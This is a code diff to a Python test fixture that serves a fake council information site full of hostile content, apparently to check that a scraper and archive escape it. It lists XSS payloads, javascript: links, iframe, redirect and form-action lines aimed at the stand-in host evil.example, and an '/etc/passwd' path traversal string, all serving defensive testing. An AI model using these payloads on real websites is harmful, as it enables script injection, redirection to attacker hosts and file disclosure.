@@ -1,14 +1,16 @@
-"""A council whose every word attacks the reader: for the pages that show what it prints.
+"""Councils of all generations whose every word attacks the reader, taken in by the real sync.
 
 The same attacks stand in each place a page has, escaped as an honest server would; others are put into the pages raw,
 as a server sends them that escapes nothing.
 """
 
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from dataclasses import replace
-from datetime import date
+from datetime import UTC, date, datetime, time
+from pathlib import Path
 
+from jobs.config import Config, Discovery, Politeness, Source
 from jobs.demo.council import Night, ScriptedCouncil
 from jobs.demo.http import Request, Response
 from jobs.demo.model import (
@@ -28,10 +30,15 @@ from jobs.demo.model import (
     Table,
     Text,
 )
-from jobs.demo.site import SampleCouncil
+from jobs.demo.server import serve
+from jobs.demo.site import Generation, SampleCouncil
+from jobs.nightly import Options
+from jobs.progress import Silent
+from jobs.runner import run_source, workshop
 
 ELSEWHERE = "evil.example"  # no page may ask this host for anything
 RUN = "window.hacked=1"
+LONG = "x" * 1_000_000
 ATTACKS = (
     f"<script>{RUN};alert(1)</script>",
     f'<img src=x onerror="{RUN}">',
@@ -50,7 +57,7 @@ ATTACKS = (
     f'<iframe src="//{ELSEWHERE}/c"></iframe><meta http-equiv="refresh" content="0;url=http://{ELSEWHERE}/d">',
     f'<base href="http://{ELSEWHERE}/"><form action="//{ELSEWHERE}/e"><button>x</button></form>',
     f"<style>*{{background:url(//{ELSEWHERE}/f)}}</style>",
-    "x" * 1_000_000,
+    LONG,
     "a\u0300" * 300 + " \U0001f4a3 \ufffe \ufeff",
     "../../../etc/passwd%00 %2e%2e%2f ?a=b&c=d #e",
 )
@@ -73,21 +80,53 @@ class AttackingCouncil(SampleCouncil):
 
     def respond(self, request: Request) -> Response:
         response = super().respond(request)
-        body = response.body.replace(_MARK.encode(), "".join(RAW).encode())
+        in_attributes = self.generation == "allris4" and "/to010" in request.path  # no reader believes a broken tag
+        body = response.body.replace(_MARK.encode(), b"" if in_attributes else "".join(RAW).encode())
         if request.path.rpartition("/")[2].startswith(("vo020", "to010")):
             body = _LINK.sub(f'href="javascript:{RUN}"'.encode(), body, count=1)
         return replace(response, body=body)
 
 
-def attacking_council() -> ScriptedCouncil:
+# Each generation reads its own pages; what they have in common need not be attacked three times.
+GENERATIONS: dict[Generation, Sequence[str]] = {
+    "allris3_classic": ATTACKS,
+    "allris3_responsive": ATTACKS[:4],
+    "allris4": (ATTACKS[4], *ATTACKS[9:12]),
+}
+
+
+def hostile_archive(folder: Path) -> None:
+    """Make an archive of one council for each generation, after two nights; its source is called as the generation."""
+    for generation, attacks in GENERATIONS.items():
+        council = AttackingCouncil(attacking_council(attacks), generation=generation)
+        with serve(council) as base_url:
+            config = Config(
+                database=str(folder / "archive.sqlite"),
+                politeness=Politeness(requests_per_second=10_000, timeout_seconds=20),
+                discovery=Discovery(sweep_per_night=0, calendar_months_back=0, calendar_months_ahead=1),
+                source=(Source(key=generation.replace("_", "-"), name=f"Rat {ATTACKS[0]}", base_url=base_url),),
+            )
+            for night in (1, 2):
+                _sync(config, council, night)
+
+
+def _sync(config: Config, council: SampleCouncil, night: int) -> None:
+    council.night = night
+    now = datetime.combine(council.council.day(night), time(2, 15), UTC)
+    with workshop(config) as shop:
+        result = run_source(shop, config.source[0], Options(full=True), Silent(), now=lambda: now)
+    assert result.summary.outcomes["failed"] == 0, result.summary.failures
+
+
+def attacking_council(attacks: Sequence[str]) -> ScriptedCouncil:
     """Return two nights: in the second every text is different, results arrive, one item leaves the agenda."""
     nights = ((date(2021, 11, 22), False), (date(2021, 11, 26), True))
-    return ScriptedCouncil("Angriffe", tuple(_night(day, later=later) for day, later in nights))
+    return ScriptedCouncil("Angriffe", tuple(_night(day, attacks, later=later) for day, later in nights))
 
 
-def _night(day: date, *, later: bool) -> Night:
-    proposals = {number: _proposal(number, attack, later=later) for number, attack in enumerate(ATTACKS, _FIRST)}
-    return Night(day, proposals, {_MEETING: _meeting(later=later), _MEETING + 1: _foreign_meeting()})
+def _night(day: date, attacks: Sequence[str], *, later: bool) -> Night:
+    proposals = {number: _proposal(number, attack, later=later) for number, attack in enumerate(attacks, _FIRST)}
+    return Night(day, proposals, {_MEETING: _meeting(attacks, later=later), _MEETING + 1: _foreign_meeting()})
 
 
 def _proposal(number: int, attack: str, *, later: bool) -> Proposal:
@@ -127,10 +166,10 @@ def _texts(number: int, attack: str, *, later: bool) -> Iterator[Text]:
     yield Text("FA", number * 10 + 2, "Finanzen", (Part("Finanzielle Auswirkungen", (Paragraph(money),)),))
 
 
-def _meeting(*, later: bool) -> Meeting:
-    attacked = [(number, attack) for number, attack in enumerate(ATTACKS, _FIRST) if not (later and number == _FIRST)]
+def _meeting(attacks: Sequence[str], *, later: bool) -> Meeting:
+    attacked = [(number, attack) for number, attack in enumerate(attacks, _FIRST) if not (later and number == _FIRST)]
     rows = tuple(_row(number, attack, top, later=later) for top, (number, attack) in enumerate(attacked, 1))
-    words = " ".join(attack for attack in ATTACKS if len(attack) < 1000)
+    words = " ".join(attack for attack in attacks if attack is not LONG)
     return Meeting(
         _MEETING, f"Ausschuss {ATTACKS[0]}", 31, f"Sitzung {words}", date(2021, 11, 25), "17:00", words, words,
         status=words, occasion=words, items=rows, documents=(Document(f"Einladung {words}", 777),),
@@ -140,7 +179,7 @@ def _meeting(*, later: bool) -> Meeting:
 def _row(number: int, attack: str, top: int, *, later: bool) -> AgendaRow:
     short = attack[:3000]
     return AgendaRow(
-        number * 100, str(top), (attack, _MARK), remark=f"({short})", late=top == 2, proposal=number,
+        number * 100, str(top), (short, _MARK), remark=f"({short})", late=top == 2, proposal=number,
         reference=f"2021/{number}", role=f"Rolle {short[:300]}", result=f"beschlossen {short}" if later else None,
         minutes="PA" if later else None,
     )  # fmt: skip
